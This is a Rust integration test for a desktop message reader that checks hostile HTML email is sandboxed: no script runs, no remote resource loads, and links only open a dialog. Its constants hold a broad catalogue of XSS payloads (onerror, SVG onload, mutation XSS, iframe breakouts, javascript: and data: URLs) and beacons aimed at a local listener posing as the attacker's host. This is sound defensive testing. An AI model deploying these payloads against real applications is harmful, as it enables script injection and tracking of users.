//! Hostile messages in the real window: nothing of them runs, nothing leaves the machine, and they can be read.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod desktop;

use std::io::Read as _;
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use chrono::{Days, NaiveDate};
use desktop::{Desktop, Keychain, Look, Page, held, last_month, last_month_period, moment, server};
use serde_json::json;

/// One record, found by this word of its subject.
const SUBJECT: &str = "Zarzamora <img src=x onerror=\"top.ran='subject'\"> {{7*7}}";
const WORD: &str = "zarzamora";
/// No line can be broken within it but anywhere.
const UNBROKEN: usize = 40_000;
/// WebKit adds the widths of so long a run with small errors, and its last line hangs over by some signs.
const HANGS_OVER: i64 = 80;

#[test]
fn a_hostile_message_runs_nothing_and_calls_nobody() {
    let listener = Listener::start();
    let desktop = Desktop::with(Keychain::Unlocked, Look::SPANISH_LIGHT);
    let server = server(120);
    let created = moment(day(), "10:00:00");
    server.plant(created, Some(created.plus(3_600)), record(&hostile(listener.address), &hostile(listener.address)));
    let page = desktop.open_traza(1366, 768);
    page.connect("Tienda Andina", &server);
    page.download("last_month");
    page.explore_all(held(&server, last_month_period()));
    open(&page);

    is_whole(&page);
    nothing_ran(&page);
    the_keyboard_comes_back(&page);
    a_link_only_asks(&page, listener.address);
    page.click("raw-open");
    page.eventually("the raw text is text", || page.text_now("raw-text")?.contains("<script>").then_some(()));
    page.audit("the raw text");
    nothing_ran(&page);
    page.close();
    assert_eq!(listener.seen(), Vec::<String>::new(), "something called home");
    assert!(server.judge().broken.is_empty());
}

/// Searches for the planted record and reads it.
fn open(page: &Page<'_>) {
    page.fill("search", WORD);
    page.wait_for_number("count", 1);
    page.open_first_row();
    page.eventually("the message is shown", || {
        let shown = page.message();
        (shown.contains("Antes del ataque") && shown.contains("Después del ataque")).then_some(())
    });
}

/// The frame is as high as its text, and no wider than its pane.
fn is_whole(page: &Page<'_>) {
    let script = "
return [...document.querySelectorAll(\"[data-test='message-frame']\")].map((frame) => {
  const inside = frame.contentDocument.createRange();
  inside.selectNodeContents(frame.contentDocument.body);
  const text = inside.getBoundingClientRect();
  const over = frame.contentDocument.documentElement.scrollHeight - frame.clientHeight;
  return [over, Math.floor(text.right) - frame.clientWidth, frame.clientHeight];
})";
    std::thread::sleep(std::time::Duration::from_secs(3));
    page.eventually("the frame is as high as its text", || {
        let frames = page.js(script);
        let frames = frames.as_array()?;
        let fits = |frame: &serde_json::Value| {
            frame[0].as_i64() <= Some(0) && frame[1].as_i64() <= Some(HANGS_OVER) && frame[2].as_i64() > Some(500)
        };
        (!frames.is_empty() && frames.iter().all(fits)).then_some(())
    });
}

fn nothing_ran(page: &Page<'_>) {
    assert_eq!(page.js("return window.ran ?? null"), json!(null), "a script of the message ran");
    assert_eq!(page.js("return location.href").as_str().map(|at| at.contains("127.0.0.1")), Some(false));
    let alive = page.js(
        "return [...document.querySelectorAll('iframe')].flatMap((frame) => \
         [...(frame.contentDocument?.querySelectorAll('script,form,input,button,object,embed,iframe,body link,body base,meta[http-equiv=refresh]') ?? [])]\
         .map((e) => e.outerHTML.slice(0, 80)))",
    );
    let alive: Vec<&str> = alive.as_array().unwrap().iter().filter_map(|one| one.as_str()).collect();
    assert!(alive.is_empty(), "left in the frame: {alive:?}");
    let sandboxes =
        page.js("return [...document.querySelectorAll('iframe')].map((frame) => frame.getAttribute('sandbox'))");
    assert!(
        sandboxes.as_array().unwrap().iter().all(|rights| rights == "allow-same-origin allow-popups"),
        "{sandboxes}"
    );
}

/// A real click lands in the message; the next key is the page's all the same.
fn the_keyboard_comes_back(page: &Page<'_>) {
    page.fill("search", "");
    page.eventually("all are shown", || page.number("count").filter(|total| *total > 1));
    let before = page.text("reader-subject");
    let (x, y) = in_frame(page, "p");
    page.desktop().display().click_at(x, y);
    page.eventually("the reader has the focus", || page.focused().starts_with("reader ").then_some(()));
    page.press("j");
    page.eventually("J goes on", || (page.text_now("reader-subject")? != before).then_some(()));
    open(page);
}

/// A link shows where it leads and opens nothing by itself.
fn a_link_only_asks(page: &Page<'_>, address: SocketAddr) {
    let here = page.js("return location.href");
    for link in ["a[href$='/link']", "a[href$='/blank']"] {
        let (x, y) = in_frame(page, link);
        page.desktop().display().click_at(x, y);
        page.wait_for("link-dialog");
        let goal = page.text("link-address");
        assert!(goal.contains(&address.to_string()), "{goal}");
        page.audit("a link's dialog");
        page.focus();
        page.press("Escape");
        page.wait_without("link-dialog");
        assert_eq!(page.js("return location.href"), here);
    }
}

/// Where an element of the first message lies in the window, once it is scrolled to.
fn in_frame(page: &Page<'_>, css: &str) -> (i16, i16) {
    let script = "
const frame = document.querySelector(\"[data-test='message-frame']\");
const inside = frame?.contentDocument?.querySelector(arguments[0]);
if (!inside) return null;
inside.scrollIntoView({ block: 'center' });
const outer = frame.getBoundingClientRect(), inner = inside.getBoundingClientRect();
const scale = outer.width / frame.offsetWidth;
return [outer.x + (inner.x + Math.min(inner.width / 2, 20)) * scale, outer.y + (inner.y + Math.min(inner.height / 2, 8)) * scale]";
    page.rest();
    page.eventually(&format!("{css} is in the message"), || {
        let place = page.js_with(script, vec![json!(css)]);
        Some((place[0].as_f64()? as i16, place[1].as_f64()? as i16))
    })
}

/// In the midst of last month, with others before and after it.
fn day() -> NaiveDate {
    last_month().0 + Days::new(14)
}

fn record(body: &str, answer: &str) -> String {
    let day = day();
    json!({
        "channel": "email", "agent_name": "Julián Ortega", "skill_id": "12", "case_id": "777001", "subject": SUBJECT,
        "from": "mala@example.com", "to": "ventas@example.com", "body": body, "answer": answer,
        "date_creation": format!("{day} 10:00:00"), "close_date": format!("{day} 11:00:00"),
        "evaluation_survey": "1", "cod_act": "REC", "cod_description": "<script>top.ran='code'</script>",
        "comments": "<img src=x onerror=\"top.ran='comments'\">",
        "attachments": "javascript:top.ran='attachment'", "status": "close"
    })
    .to_string()
}

/// Everything that messages have been known to try. Whatever runs writes to `top.ran`; whatever calls, calls `home`.
fn hostile(home: SocketAddr) -> String {
    let unbroken = "W".repeat(UNBROKEN);
    let tries = TRIES.replace("HOME", &format!("http://{home}"));
    format!("<html><head>{HEAD}</head><body onload=\"top.ran='load'\"><p>Antes del ataque</p>{tries}<p>{unbroken}</p><p>Después del ataque</p></body></html>")
        .replace("HOME", &format!("http://{home}"))
}

const HEAD: &str = r#"<base href="HOME/"><meta http-equiv="refresh" content="0;url=HOME/refresh">
<link rel="stylesheet" href="HOME/style.css"><link rel="dns-prefetch" href="HOME/"><link rel="preload" as="image" href="HOME/pre">
<style>@import url("HOME/import.css"); body { background: url(HOME/ground.png) } p { position: fixed; z-index: 9999 }</style>
<script>top.ran = 'head'; alert(1)</script>"#;

const TRIES: &str = r#"
<script>top.ran = 'script'; parent.ran = 1; alert('script')</script><script src="HOME/script.js"></script>
<img src="HOME/pixel.png" width="1" height="1"><img src="x" onerror="top.ran='onerror'"><img srcset="HOME/set.png 2x">
<picture><source srcset="HOME/source.png"><img src="HOME/picture.png"></picture>
<svg onload="top.ran='svg'"><script>top.ran='svg script'</script><image href="HOME/svg.png"/><use href="HOME/use.svg#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.ran='mutation'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.ran='noscript'>"></noscript>
<iframe srcdoc="<script>top.ran='srcdoc'</script>"></iframe><iframe src="javascript:top.ran='frame'"></iframe>
</iframe></body></html><script>top.ran='broken out'</script>"></iframe>'></iframe>
&lt;/iframe&gt;&lt;script&gt;top.ran='twice'&lt;/script&gt;
<object data="HOME/object"></object><embed src="HOME/embed"><video src="HOME/video" poster="HOME/poster" autoplay></video>
<audio src="HOME/audio" autoplay></audio><input type="image" src="HOME/input.png" autofocus onfocus="top.ran='focus'">
<form action="HOME/form"><input name="password"><button>Enviar</button></form><button formaction="HOME/b">Siga</button>
<div style="background:url(HOME/inline.png);position:fixed;inset:0">tapa</div><details open ontoggle="top.ran='toggle'">x</details>
<table background="HOME/table.png"><tr><td background="HOME/cell.png">celda</td></tr></table>
<p><a href="HOME/link">Siga este enlace</a></p>
<p><a target="_blank" href="HOME/blank">Y este, en otra ventana</a></p>
<p><a href="javascript:top.ran='link'">Y este no es uno</a> <a href="data:text/html,<script>top.ran='data'</script>">ni este</a>
<a ping="HOME/ping" href="HOME/pinged">ni este sin más</a></p>
<marquee onstart="top.ran='marquee'">x</marquee><textarea></textarea><!--<img src="--><img src=x onerror=top.ran='comment'//">
"#;

/// A server that answers nobody, and knows who came.
struct Listener {
    address: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let noted = Arc::clone(&seen);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                stream.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
                let mut bytes = [0; 200];
                let read = stream.read(&mut bytes).unwrap_or(0);
                noted.lock().unwrap().push(String::from_utf8_lossy(&bytes[..read]).into_owned());
            }
        });
        Listener { address, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}
